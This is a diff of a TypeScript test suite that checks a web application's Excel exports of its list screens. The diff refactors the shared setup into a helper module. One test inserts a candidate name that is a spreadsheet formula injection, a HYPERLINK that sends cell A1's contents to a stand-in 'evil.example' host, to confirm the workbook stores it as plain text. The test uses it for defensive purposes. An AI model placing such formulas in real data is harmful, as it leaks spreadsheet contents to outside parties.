@@ -1,13 +1,10 @@
-import http from 'node:http';
 import ExcelJS from 'exceljs';
-import { beforeAll, expect, it } from 'vitest';
+import { expect, it } from 'vitest';
 import { toApiDate } from '../../src/common/dates';
-import { screenRows } from './csv';
+import { CALLS, CANDIDATES, exportScene, fetchExport, listOf, type Lang } from './export-scene';
 import { insertCandidates } from './fixtures';
-import { ADMIN, callPath, describeEachDatabase, type TestApi } from './harness';
+import { describeEachDatabase, type TestApi } from './harness';
 import { describeCall, unpaged, type ListCall } from './lists/calls';
-import { buildRecords, type ListRecords } from './lists/records';
-import { continueIds, insertKeyed } from './lists/write';
 import { sheetOf, textRows } from './xlsx';
 
 /**
@@ -17,21 +14,8 @@ import { sheetOf, textRows } from './xlsx';
  * reader, as a spreadsheet program reads it.
  */
 
-type Lang = 'en' | 'de';
-const LANGUAGE = { en: 'english', de: 'german' } as const;
 const DAY_FORMAT = { en: 'yyyy-mm-dd', de: 'dd.mm.yyyy' };
 const XLSX_TYPE = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet';
-
-type Resource = keyof ReturnType<typeof screenRows>;
-
-const RESOURCE_OF: Partial<Record<ListCall['name'], Resource>> = {
-  userList: 'users',
-  userListByType: 'users',
-  companyManagementList: 'customers',
-  companyListByType: 'customers',
-  vacancyList: 'vacancies',
-  candidateList: 'candidates',
-};
 
 /** The sheet's name: the list's title. */
 const TITLE = {
@@ -46,19 +30,13 @@ interface XlsxAnswer {
 }
 
 async function exportOf(api: TestApi, token: string, call: ListCall, lang: Lang): Promise<XlsxAnswer> {
-  const url = new URL(callPath(call.name, call.params), api.baseUrl);
-  for (const [key, value] of Object.entries({ ...call.query, format: 'xlsx' }))
-    url.searchParams.set(key, value);
-  const response = await fetch(url, {
-    headers: { authorization: `Bearer ${token}`, 'accept-language': lang },
-    signal: AbortSignal.timeout(20_000),
-  });
+  const response = await fetchExport(api, token, call, lang, 'xlsx');
   return { status: response.status, headers: response.headers, bytes: await response.arrayBuffer() };
 }
 
 /** The export, checked to be the list's JSON rows as its screen shows them; its sheet. */
 async function exportsAsListed(api: TestApi, token: string, call: ListCall, lang: Lang) {
-  const resource = RESOURCE_OF[call.name] ?? expect.fail(`${call.name} is not a list`);
+  const { resource, language, screen } = listOf(call, lang);
   const file = await exportOf(api, token, call, lang);
   expect(file.status).toBe(200);
   expect(file.headers.get('content-type')).toBe(XLSX_TYPE);
@@ -67,8 +45,7 @@ async function exportsAsListed(api: TestApi, token: string, call: ListCall, lang
   );
   const sheet = await sheetOf(file.bytes);
   expect(sheet.name).toBe(TITLE[lang][resource]);
-  const screen = screenRows(LANGUAGE[lang])[resource];
-  const [header, ...data] = textRows(sheet, LANGUAGE[lang]);
+  const [header, ...data] = textRows(sheet, language);
   expect(header).toEqual(screen.header);
   expect(sheet.getRow(1).font?.bold).toBe(true);
   const listed = await unpaged(api, token, call);
@@ -79,48 +56,21 @@ async function exportsAsListed(api: TestApi, token: string, call: ListCall, lang
   return sheet;
 }
 
-const CALLS: ListCall[] = [
-  { name: 'candidateList', params: { status: 'all' } },
-  { name: 'candidateList', params: { status: 'all' }, query: { ordering: '-created_at', search: 'müller' } },
-  { name: 'candidateList', params: { status: 'inactive' }, query: { candidate_status: 'First_Interview' } },
-  { name: 'userListByType', params: { type: 'active' }, query: { search: 'ü', ordering: '-email' } },
-  { name: 'companyManagementList', query: { ordering: 'folder_id' } },
-  { name: 'vacancyList', params: { type: 'all' }, query: { ordering: '-vacancy_quota' } },
-];
-
-/** Several batches of the server's 100 rows, and more than a socket takes at once. */
-const CANDIDATES = 3_000;
-
 describeEachDatabase('a list exported as an Excel workbook', (api) => {
-  let admin = '';
-  let records: ListRecords;
-
-  beforeAll(async () => {
-    records = buildRecords({
-      companies: 6,
-      users: 40,
-      vacancies: 30,
-      candidates: CANDIDATES,
-      names: 40,
-      passwordHash: 'not used: these users never sign in',
-    });
-    await insertKeyed(api().db, records);
-    await continueIds(api().db, api().server.ctx.engine);
-    admin = await api().login(ADMIN.email, ADMIN.password);
-  });
+  const { admin, records, leaveMidway, readStreamed } = exportScene(api, 'xlsx');
 
   it.each(
     CALLS.flatMap((call) => (['en', 'de'] as const).map((lang) => [describeCall(call), lang, call] as const)),
   )(
     "%s [%s]: the workbook holds the list's records in its order, as its screen shows them",
     async (_title, lang, call) => {
-      const sheet = await exportsAsListed(api(), admin, call, lang);
+      const sheet = await exportsAsListed(api(), admin(), call, lang);
       expect(sheet.rowCount).toBeGreaterThan(1);
     },
   );
 
   it('types its cells: texts as they are (no formula guard), days as dates in the language’s format', async () => {
-    const vacancy = records.vacancies[0] ?? expect.fail('no vacancy');
+    const vacancy = records().vacancies[0] ?? expect.fail('no vacancy');
     const name = '=HYPERLINK("https://evil.example/?"&A1,"CV") Xlsxdoe';
     await insertCandidates(api(), vacancy.id, [
       {
@@ -132,7 +82,7 @@ describeEachDatabase('a list exported as an Excel workbook', (api) => {
     ]);
     const call: ListCall = { name: 'candidateList', params: { status: 'all' }, query: { search: 'xlsxdoe' } };
     for (const lang of ['en', 'de'] as const) {
-      const sheet = await exportsAsListed(api(), admin, call, lang);
+      const sheet = await exportsAsListed(api(), admin(), call, lang);
       expect(sheet.rowCount).toBe(2);
       const row = sheet.getRow(2);
       for (const [column, text] of [
@@ -151,9 +101,9 @@ describeEachDatabase('a list exported as an Excel workbook', (api) => {
   });
 
   it('writes numbers as numbers, and a vacancy’s days as dates', async () => {
-    const vacancy = records.vacancies[0] ?? expect.fail('no vacancy');
+    const vacancy = records().vacancies[0] ?? expect.fail('no vacancy');
     const call: ListCall = { name: 'vacancyList', params: { type: 'all' }, query: { ordering: 'id' } };
-    const sheet = await exportsAsListed(api(), admin, call, 'de');
+    const sheet = await exportsAsListed(api(), admin(), call, 'de');
     let row: ExcelJS.Row | undefined;
     sheet.eachRow((candidate) => {
       if (candidate.getCell(1).value === vacancy.id) row = candidate;
@@ -167,57 +117,15 @@ describeEachDatabase('a list exported as an Excel workbook', (api) => {
   });
 
   it('serves on when clients leave midway: more left workbooks than download slots, then a whole one', async () => {
-    const url = new URL(`${callPath('candidateList', { status: 'all' })}?format=xlsx`, api().baseUrl);
-    const leaveMidway = () =>
-      new Promise<number>((resolve, reject) => {
-        const request = http.get(url, { headers: { authorization: `Bearer ${admin}` } }, (response) => {
-          response.once('data', () => {
-            request.destroy();
-            resolve(response.statusCode ?? 0);
-          });
-        });
-        request.on('error', (error) => (request.destroyed ? undefined : reject(error)));
-      });
     // Refused (503) only until the server has seen the last ones leave: a slot held per left export, or a
     // writer that fails on its closed answer, would refuse or break every one after.
-    const untilServed = async (call: () => Promise<number>) => {
-      const deadline = Date.now() + 10_000;
-      let status = await call();
-      while (status === 503 && Date.now() < deadline) status = await call();
-      return status;
-    };
-    for (let left = 0; left < 12; left++) expect(await untilServed(leaveMidway)).toBe(200);
-    const whole = { name: 'companyManagementList' } as const;
-    await untilServed(async () => (await exportOf(api(), admin, whole, 'en')).status);
-    const sheet = await exportsAsListed(api(), admin, whole, 'en');
-    expect(sheet.rowCount).toBeGreaterThan(records.companies.length);
+    await leaveMidway(12);
+    const sheet = await exportsAsListed(api(), admin(), { name: 'companyManagementList' }, 'en');
+    expect(sheet.rowCount).toBeGreaterThan(records().companies.length);
   });
 
   it('streams a large export: the first bytes arrive before the client has read the rest', async () => {
-    const url = new URL(`${callPath('candidateList', { status: 'all' })}?format=xlsx`, api().baseUrl);
-    const chunks: Buffer[] = [];
-    let paused: http.IncomingMessage | undefined;
-    const answer = await new Promise<http.IncomingMessage>((resolve, reject) => {
-      const request = http.get(url, { headers: { authorization: `Bearer ${admin}` } }, (response) => {
-        response.on('data', (chunk: Buffer) => {
-          chunks.push(chunk);
-          if (paused) return;
-          paused = response.pause();
-          resolve(response);
-        });
-        response.on('error', reject);
-      });
-      request.on('error', reject);
-    });
-    const atPause = chunks.reduce((size, chunk) => size + chunk.length, 0);
-    const ended = new Promise<void>((resolve) => answer.on('end', resolve));
-    answer.resume();
-    await ended;
-    const bytes = Buffer.concat(chunks);
-    expect(answer.headers['transfer-encoding']).toBe('chunked');
-    expect(answer.headers['content-length']).toBeUndefined();
-    expect(atPause).toBeGreaterThan(0);
-    expect(atPause).toBeLessThan(bytes.length / 10);
+    const bytes = await readStreamed();
     const sheet = await sheetOf(new Uint8Array(bytes).buffer);
     expect(sheet.rowCount - 1).toBeGreaterThanOrEqual(CANDIDATES);
   });
